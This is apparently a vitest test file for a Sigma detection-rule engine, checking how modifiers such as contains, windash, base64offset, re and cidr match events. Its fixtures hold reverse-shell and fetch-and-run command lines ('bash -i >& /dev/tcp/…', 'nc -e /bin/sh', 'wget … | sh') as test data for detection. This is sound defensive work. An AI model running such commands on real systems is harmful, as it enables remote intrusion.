import { describe, expect, it } from 'vitest';
import type { FieldValue } from '../../../src/threats/event.ts';
import { compileErrors, event, fires, ruleOn } from './helpers.ts';

/**
 * Each row: a selection (YAML under `selection:`), event fields, and whether the rule fires. Values and
 * expectations follow sigma-rules-specification.md and sigma-appendix-modifiers.md; the rule runs on
 * linux.auth events, whose logsource maps no field names, so the ECS names below are read as written.
 */
type Row = [name: string, selection: string, fields: Record<string, FieldValue>, expected: boolean];

function check(rows: Row[], options = {}) {
  it.each(rows)('%s', (_name, selection, fields, expected) => {
    const d = ruleOn(
      `    selection:\n${selection.replace(/^/gm, '        ')}\n    condition: selection`,
      options,
    );
    expect(fires(d, event('linux.auth', fields))).toBe(expected);
  });
}

describe('plain values', () => {
  check([
    ['equality is case-insensitive', "process.name: 'SSHD'", { 'process.name': 'sshd' }, true],
    ['equality is the whole value', "process.name: 'ssh'", { 'process.name': 'sshd' }, false],
    ['a list is OR', "process.name: ['cron', 'sshd']", { 'process.name': 'sshd' }, true],
    [
      'a map is AND (both hold)',
      'process.name: sshd\nuser.name: root',
      { 'process.name': 'sshd', 'user.name': 'root' },
      true,
    ],
    [
      'a map is AND (one fails)',
      'process.name: sshd\nuser.name: root',
      { 'process.name': 'sshd', 'user.name': 'bob' },
      false,
    ],
    ['a number matches the same text', 'event.code: 4624', { 'event.code': '4624' }, true],
    ['a number matches a numeric field', 'source.port: 22', { 'source.port': 22 }, true],
    ['a number does not match a different number', 'source.port: 22', { 'source.port': 2222 }, false],
    ['a non-decimal number keeps its text', 'x.mode: 0777', { 'x.mode': '0777' }, true],
    ['a boolean matches its text', 'x.flag: true', { 'x.flag': 'true' }, true],
    ['a boolean matches a boolean field', "x.flag: 'true'", { 'x.flag': true }, true],
    [
      'wildcards * and ?',
      "process.executable: '/usr/*/ss?d'",
      { 'process.executable': '/usr/sbin/sshd' },
      true,
    ],
    ['an escaped star is a star', "x.text: 'a\\*b'", { 'x.text': 'a*b' }, true],
    ['an escaped star is not a wildcard', "x.text: 'a\\*b'", { 'x.text': 'axxb' }, false],
    ["'' matches an empty value", "x.text: ''", { 'x.text': '' }, true],
    ["'' does not match a missing field", "x.text: ''", {}, false],
    ['null matches a missing field', 'x.text: null', {}, true],
    ['null does not match a present field', 'x.text: null', { 'x.text': '' }, false],
    [
      'an array field matches when an element does',
      "process.args: 'whoami'",
      { 'process.args': ['sudo', 'whoami'] },
      true,
    ],
    ['a missing field never equals', 'user.name: root', {}, false],
  ]);
});

describe('generic modifiers', () => {
  check([
    [
      'contains',
      "process.command_line|contains: '/dev/tcp/'",
      { 'process.command_line': 'bash -i >& /dev/tcp/1.2.3.4/80' },
      true,
    ],
    [
      'contains is case-insensitive',
      "process.command_line|contains: 'WHOAMI'",
      { 'process.command_line': 'whoami /all' },
      true,
    ],
    ['startswith', "user.name|startswith: 'adm'", { 'user.name': 'admin' }, true],
    ['startswith is anchored', "user.name|startswith: 'adm'", { 'user.name': 'sysadm' }, false],
    ['endswith', "process.executable|endswith: '/nc'", { 'process.executable': '/usr/bin/nc' }, true],
    [
      'endswith is anchored',
      "process.executable|endswith: '/nc'",
      { 'process.executable': '/usr/bin/ncat' },
      false,
    ],
    [
      'contains keeps inner wildcards',
      "process.command_line|contains: 'wget * | sh'",
      { 'process.command_line': 'wget http://x/a | sh' },
      true,
    ],
    [
      'contains|all needs every value',
      "process.command_line|contains|all: ['-e', '/bin/sh']",
      { 'process.command_line': 'nc -e /bin/sh 1.2.3.4' },
      true,
    ],
    [
      'contains|all fails on one missing',
      "process.command_line|contains|all: ['-e', '/bin/bash']",
      { 'process.command_line': 'nc -e /bin/sh 1.2.3.4' },
      false,
    ],
    [
      'all over array elements: each value in some element',
      "process.args|all: ['nc', '-e']",
      { 'process.args': ['nc', '-e', 'sh'] },
      true,
    ],
    ['cased makes equality case-sensitive', "process.name|cased: 'CRON'", { 'process.name': 'cron' }, false],
    ['cased still matches the same case', "process.name|cased: 'CRON'", { 'process.name': 'CRON' }, true],
    [
      'contains|cased',
      "process.command_line|contains|cased: ' -O '",
      { 'process.command_line': 'wget -o x' },
      false,
    ],
    ['exists: true with the field', 'user.name|exists: true', { 'user.name': 'x' }, true],
    ['exists: true without it', 'user.name|exists: true', {}, false],
    ['exists: false without it', 'user.name|exists: false', {}, true],
    ['exists: true with an empty value', 'user.name|exists: true', { 'user.name': '' }, true],
    ['neq holds for another value', 'user.name|neq: root', { 'user.name': 'bob' }, true],
    ['neq fails for the value', 'user.name|neq: root', { 'user.name': 'ROOT' }, false],
    ['neq with a list: none of them', "user.name|neq: ['root', 'admin']", { 'user.name': 'admin' }, false],
    ['neq needs the field', 'user.name|neq: root', {}, false],
  ]);
});

describe('string modifiers', () => {
  check([
    [
      'windash matches /',
      "process.command_line|windash|contains: ' -enc '",
      { 'process.command_line': 'powershell /enc AAA' },
      true,
    ],
    [
      'windash matches an en dash',
      "process.command_line|windash|contains: ' -enc '",
      { 'process.command_line': 'powershell \u2013enc AAA' },
      true,
    ],
    [
      'windash keeps -',
      "process.command_line|windash|contains: ' -enc '",
      { 'process.command_line': 'powershell -enc AAA' },
      true,
    ],
    [
      'windash does not match other text',
      "process.command_line|windash|contains: ' -enc '",
      { 'process.command_line': 'powershell xenc AAA' },
      false,
    ],
    // `all` ANDs the values as written, each met by any of its own dash variants (sigma-appendix-modifiers.md:
    // "all", "windash"; pySigma's windash yields an OR-ed SigmaExpansion per value). SigmaHQ writes
    // `CommandLine|contains|all|windash` for flags in any order and either form.
    ...(['contains|all|windash', 'windash|contains|all'] as const).flatMap((mods): Row[] => [
      [
        `${mods}: each value in its - form`,
        `process.command_line|${mods}: [' -s ', ' -i ']`,
        { 'process.command_line': 'findstr -s -i password' },
        true,
      ],
      [
        `${mods}: each value in another form`,
        `process.command_line|${mods}: [' -s ', ' -i ']`,
        { 'process.command_line': 'findstr /s \u2013i password' },
        true,
      ],
      [
        `${mods}: one value missing`,
        `process.command_line|${mods}: [' -s ', ' -i ']`,
        { 'process.command_line': 'findstr /s /q password' },
        false,
      ],
      [
        `${mods}: a single value`,
        `process.command_line|${mods}: [' -urlcache ']`,
        { 'process.command_line': 'certutil /urlcache x' },
        true,
      ],
    ]),
    [
      'base64offset|contains|all: each value at any offset',
      "x.text|base64offset|contains|all: ['/bin/bash', '/dev/tcp/']",
      { 'x.text': Buffer.from('x/bin/bash -i >& /dev/tcp/10.0.0.1/4242').toString('base64') },
      true,
    ],
    [
      'base64offset|contains|all: one value missing',
      "x.text|base64offset|contains|all: ['/bin/bash', '/dev/tcp/']",
      { 'x.text': Buffer.from('x/bin/bash -i').toString('base64') },
      false,
    ],
    [
      're searches anywhere',
      "process.command_line|re: '\\s-O\\s'",
      { 'process.command_line': 'wget x -O /tmp/a' },
      true,
    ],
    [
      're is case-sensitive by default',
      "process.command_line|re: '\\s-O\\s'",
      { 'process.command_line': 'wget x -o /tmp/a' },
      false,
    ],
    [
      're|i ignores case',
      "process.command_line|re|i: 'select.*from'",
      { 'process.command_line': 'SELECT * FROM t' },
      true,
    ],
    ['re anchors without m', "x.text|re: '^b'", { 'x.text': 'a\nb' }, false],
    ['re|m anchors at lines', "x.text|re|m: '^b'", { 'x.text': 'a\nb' }, true],
    ['re . stops at newline', "x.text|re: 'a.b'", { 'x.text': 'a\nb' }, false],
    ['re|s . crosses newline', "x.text|re|s: 'a.b'", { 'x.text': 'a\nb' }, true],
    ['re value keeps its backslashes', "x.text|re: 'C:\\\\Windows'", { 'x.text': 'C:\\Windows' }, true],
    ['re over a list is OR', "x.text|re: ['^a$', '^b$']", { 'x.text': 'b' }, true],
    ['base64 of the value', "x.text|base64: '/bin/bash'", { 'x.text': 'L2Jpbi9iYXNo' }, true],
    ['base64 is the whole value', "x.text|base64: '/bin/bash'", { 'x.text': 'xL2Jpbi9iYXNo' }, false],
    [
      'base64|contains',
      "x.text|base64|contains: '/bin/bash'",
      { 'x.text': 'echo L2Jpbi9iYXNo | base64 -d' },
      true,
    ],
    [
      'base64offset|contains at offset 1',
      "x.text|base64offset|contains: '/bin/bash'",
      { 'x.text': Buffer.from('x/bin/bash -i').toString('base64') },
      true,
    ],
    [
      'base64offset|contains at offset 2',
      "x.text|base64offset|contains: '/bin/bash'",
      { 'x.text': Buffer.from('xy/bin/bash -i').toString('base64') },
      true,
    ],
    [
      'base64offset|contains absent',
      "x.text|base64offset|contains: '/bin/bash'",
      { 'x.text': Buffer.from('xy/bin/zsh -i').toString('base64') },
      false,
    ],
    [
      'wide|base64offset|contains (PowerShell -enc)',
      "x.text|wide|base64offset|contains: 'Invoke-'",
      {
        'x.text': `powershell -enc ${Buffer.from('IEX; Invoke-Expression x', 'utf16le').toString('base64')}`,
      },
      true,
    ],
    [
      'utf16be|base64',
      "x.text|utf16be|base64: 'cmd'",
      { 'x.text': Buffer.from([0, 0x63, 0, 0x6d, 0, 0x64]).toString('base64') },
      true,
    ],
    [
      'utf16 adds a byte order mark',
      "x.text|utf16|base64: 'cmd'",
      { 'x.text': Buffer.from([0xff, 0xfe, 0x63, 0, 0x6d, 0, 0x64, 0]).toString('base64') },
      true,
    ],
  ]);
});

describe('numeric, time and IP modifiers', () => {
  check([
    ['lt', 'source.port|lt: 1024', { 'source.port': 22 }, true],
    ['lt is strict', 'source.port|lt: 22', { 'source.port': 22 }, false],
    ['lte', 'source.port|lte: 22', { 'source.port': 22 }, true],
    ['gt on a numeric string', 'x.count|gt: 5', { 'x.count': '6' }, true],
    ['gte', 'x.count|gte: 6', { 'x.count': 6 }, true],
    ['gt fails on non-numbers', 'x.count|gt: 5', { 'x.count': 'many' }, false],
    ['hour of a timestamp (UTC)', 'x.when|hour: 3', { 'x.when': '2024-05-01T03:15:00Z' }, true],
    ['hour with a bound', 'x.when|hour|gte: 22', { 'x.when': '2024-05-01T23:15:00Z' }, true],
    ['week is the ISO week', 'x.when|week: 1', { 'x.when': '2021-01-04T00:00:00Z' }, true],
    ['month', 'x.when|month: 5', { 'x.when': '2024-05-01T00:00:00Z' }, true],
    ['year on a non-date', 'x.when|year: 2024', { 'x.when': 'yesterday' }, false],
    // Date.parse alone reads '1' as 2001-01-01 and 'sshd 5' as May 2001: only ISO 8601 text is a date here.
    ['year on a bare number', 'x.when|year: 2001', { 'x.when': '1' }, false],
    ['month on text ending in a number', 'x.when|month: 5', { 'x.when': 'sshd 5' }, false],
    [
      "hour of Sysmon's UtcTime (space, no zone)",
      'x.when|hour: 10',
      { 'x.when': '2024-05-01 10:30:00.123' },
      true,
    ],
    ['hour of a timestamp with an offset', 'x.when|hour: 8', { 'x.when': '2024-05-01T10:30:00+02:00' }, true],
    ['cidr IPv4', "source.ip|cidr: '10.0.0.0/8'", { 'source.ip': '10.1.2.3' }, true],
    ['cidr IPv4 outside', "source.ip|cidr: '10.0.0.0/8'", { 'source.ip': '192.168.0.1' }, false],
    ['cidr IPv6', "source.ip|cidr: 'fe80::/10'", { 'source.ip': 'fe80::1' }, true],
    [
      'cidr list is OR',
      "source.ip|cidr: ['10.0.0.0/8', '192.168.0.0/16']",
      { 'source.ip': '192.168.3.4' },
      true,
    ],
    ['cidr on a non-address', "source.ip|cidr: '10.0.0.0/8'", { 'source.ip': 'localhost' }, false],
  ]);

  it.each([
    ['2024-05-01T10:30:00', 10],
    ['2024-05-01 23:59:59', 23],
  ])('a time without a zone (%s) is UTC, whatever the machine zone', (when, hour) => {
    const before = process.env.TZ;
    process.env.TZ = 'Asia/Kolkata';
    try {
      const d = ruleOn(`    selection:\n        x.when|hour: ${hour}\n    condition: selection`);
      expect(fires(d, event('linux.auth', { 'x.when': when }))).toBe(true);
    } finally {
      if (before === undefined) Reflect.deleteProperty(process.env, 'TZ');
      else process.env.TZ = before;
    }
  });
});

describe('specific modifiers', () => {
  describe('expand: placeholders from the options', () => {
    const options = { placeholders: { Administrators: ['root', 'adm_*'] } };
    check(
      [
        [
          'a placeholder expands to its values (OR)',
          "user.name|expand: '%Administrators%'",
          { 'user.name': 'root' },
          true,
        ],
        [
          'a placeholder value may hold wildcards',
          "user.name|expand: '%Administrators%'",
          { 'user.name': 'adm_jane' },
          true,
        ],
        ['other values do not match', "user.name|expand: '%Administrators%'", { 'user.name': 'jane' }, false],
        [
          'expand|all: each value met by any of its placeholder values',
          "x.text|expand|contains|all: ['%Administrators%', 'sudo']",
          { 'x.text': 'sudo by adm_jane' },
          true,
        ],
        [
          'expand|all: one value missing',
          "x.text|expand|contains|all: ['%Administrators%', 'sudo']",
          { 'x.text': 'su by root' },
          false,
        ],
        [
          'a placeholder inside text',
          "x.text|expand: 'login by %Administrators%!'",
          { 'x.text': 'login by root!' },
          true,
        ],
        [
          '\\% is a plain percent sign',
          "x.text|expand: '\\%Administrators%'",
          { 'x.text': '%Administrators%' },
          true,
        ],
        [
          'without expand, %name% is literal',
          "x.text: '%Administrators%'",
          { 'x.text': '%Administrators%' },
          true,
        ],
      ],
      options,
    );
    it('a placeholder with no values makes the rule unsupported', () => {
      const errors = compileErrors(
        "title: t\nlogsource: {product: linux, service: auth}\ndetection:\n  s:\n    user.name|expand: '%Servers%'\n  condition: s\n",
      );
      expect(errors).toMatchObject([
        { kind: 'unsupported', line: 5, message: expect.stringContaining('%Servers%') },
      ]);
    });
  });

  describe('fieldref: compare two fields of the event', () => {
    check([
      [
        'equal fields',
        'user.name|fieldref: user.target.name',
        { 'user.name': 'Bob', 'user.target.name': 'bob' },
        true,
      ],
      [
        'different fields',
        'user.name|fieldref: user.target.name',
        { 'user.name': 'bob', 'user.target.name': 'root' },
        false,
      ],
      ['missing referenced field', 'user.name|fieldref: user.target.name', { 'user.name': 'bob' }, false],
      [
        'fieldref|cased',
        'user.name|fieldref|cased: user.target.name',
        { 'user.name': 'Bob', 'user.target.name': 'bob' },
        false,
      ],
      ['fieldref|contains', 'x.a|fieldref|contains: x.b', { 'x.a': 'hello bob!', 'x.b': 'bob' }, true],
      ['fieldref|neq', 'x.a|fieldref|neq: x.b', { 'x.a': 'a', 'x.b': 'b' }, true],
    ]);
  });
});

describe('invalid and unsupported modifier use is reported with its line', () => {
  const rule = (selection: string) =>
    `title: t\nlogsource:\n    product: linux\n    service: auth\ndetection:\n    selection:\n        ${selection}\n    condition: selection\n`;
  it.each([
    ["x|foo: 'a'", 'unsupported', "unknown modifier 'foo'"],
    ["x|re: '(a)\\1'", 'unsupported', 'backreference'],
    ["x|re|contains: 'a'", 'unsupported', "'contains' after 're'"],
    ["x|contains|re: 'a'", 'unsupported', "'re' must come before"],
    ["x|i: 'a'", 'invalid', "'i' is a flag of 're'"],
    ["x|cidr: '10.0.0.0/33'", 'invalid', 'prefix length'],
    ["x|gt: 'many'", 'invalid', "'gt' needs a number"],
    ["x|exists: 'yes'", 'invalid', "'exists' takes true or false"],
    ["x|base64: 'a*'", 'invalid', 'cannot encode a value with wildcards'],
    ['x|hour: noon', 'invalid', "'hour' needs a whole number"],
    ['x|contains|exists: true', 'invalid', "'exists' needs a field and no other modifier"],
    ["'|exists': true", 'invalid', "'exists' needs a field and no other modifier"],
    ["x|fieldref: 'y*'", 'invalid', "'fieldref' takes a field name"],
    ['x: [[a]]', 'invalid', 'must be plain values'],
    ['[{}, {x: a}]', 'invalid', 'an empty map in a list would match every event'],
  ])('%s', (selection, kind, message) => {
    const errors = compileErrors(rule(selection));
    expect(errors).toHaveLength(1);
    expect(errors[0]).toMatchObject({
      kind,
      file: 'inline.yml',
      line: 7,
      message: expect.stringContaining(message),
    });
  });
});
